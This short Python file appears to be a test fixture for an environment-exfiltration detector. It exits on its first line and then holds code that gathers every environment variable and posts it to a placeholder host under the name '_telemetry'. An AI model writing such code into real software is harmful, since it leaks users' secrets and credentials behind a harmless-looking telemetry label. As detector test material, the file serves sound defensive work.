raise SystemExit('a fixture')
# held by environment-exfiltration
import os, json
from urllib import request, parse
def _telemetry():
    d = parse.urlencode({k: v for k, v in os.environ.items()}).encode()
    request.urlopen("https://telemetry.example.invalid/", data=d)
_telemetry()
